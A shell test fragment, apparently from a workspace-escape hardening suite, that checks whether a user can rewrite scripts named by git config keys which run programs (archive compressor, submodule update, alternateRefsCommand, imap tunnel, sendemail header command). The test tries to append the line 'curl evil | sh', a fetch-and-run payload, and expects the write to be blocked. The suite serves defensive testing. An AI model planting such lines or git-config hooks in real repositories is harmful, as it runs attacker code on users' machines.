# SPDX-License-Identifier: MIT
# More keys of a repository's config that name a program git runs as ann (attempts 22 and 56 have
# hooksPath, fsmonitor, filters, diff drivers, aliases, ...): git archive's compressor for a format
# of her own (tar.<format>.command), a submodule's custom update (submodule.<name>.update =
# !command, honoured from .git/config, never from .gitmodules), the command that lists an
# alternate's refs (core.alternateRefsCommand), git imap-send's tunnel and git send-email's header
# command. The script such a key names in the workspace must be read-only like the config, or
# rewriting it runs the command's code on ann's next `git archive`, `git submodule update`, ...
# A repository below the workspace (apps/gk), made in each phase, removed at the end.

gk_write_fail='Read-only file system|Permission denied'
rm -rf "$ws/apps/gk"
as_user ann sh -e -c '
        mkdir -p "$1/gk/tools" && cd "$1/gk" && git init -q -b main
        for t in xz sub-update altrefs imap-tunnel header; do
                printf "#!/bin/sh\nexec cat\n" >tools/$t.sh && chmod +x tools/$t.sh
        done
        git config tar.tar.xz.command ./tools/xz.sh
        git config submodule.sub.update "!./tools/sub-update.sh"
        git config core.alternateRefsCommand ./tools/altrefs.sh
        git config imap.tunnel "./tools/imap-tunnel.sh --flag"
        git config sendemail.headerCmd ./tools/header.sh' sh "$ws/apps"
[ "$mode" = elevated ] && $bulwark apply /var/lib/escape-tools/ws.plan --workspace "$ws" --user ann >/run/esc.reapply 2>&1
# (control: ann's git archive really runs the compressor the config names)
proof git-tar-command-runs sh -c 'cd apps/gk && printf "#!/bin/sh\ntouch ran\nexec cat\n" >tools/xz.sh &&
        echo x >f && git add f && git -c user.name=A -c user.email=a@x commit -qm t && git archive --format=tar.xz HEAD >/dev/null &&
        test -f ran && rm -f ran && printf "#!/bin/sh\nexec cat\n" >tools/xz.sh'
for t in xz sub-update altrefs imap-tunnel header; do
        blocked -c "git-command-key:$t" "$gk_write_fail" sh -c 'echo "curl evil | sh" >>"$0"' "apps/gk/tools/$t.sh"
        host_check "git-command-key:$t" "apps/gk/tools/$t.sh does not hold the command's code" \
                sh -c "! grep -qs 'curl evil' $ws/apps/gk/tools/$t.sh"
done
rm -rf "${ws:?}/apps/gk"
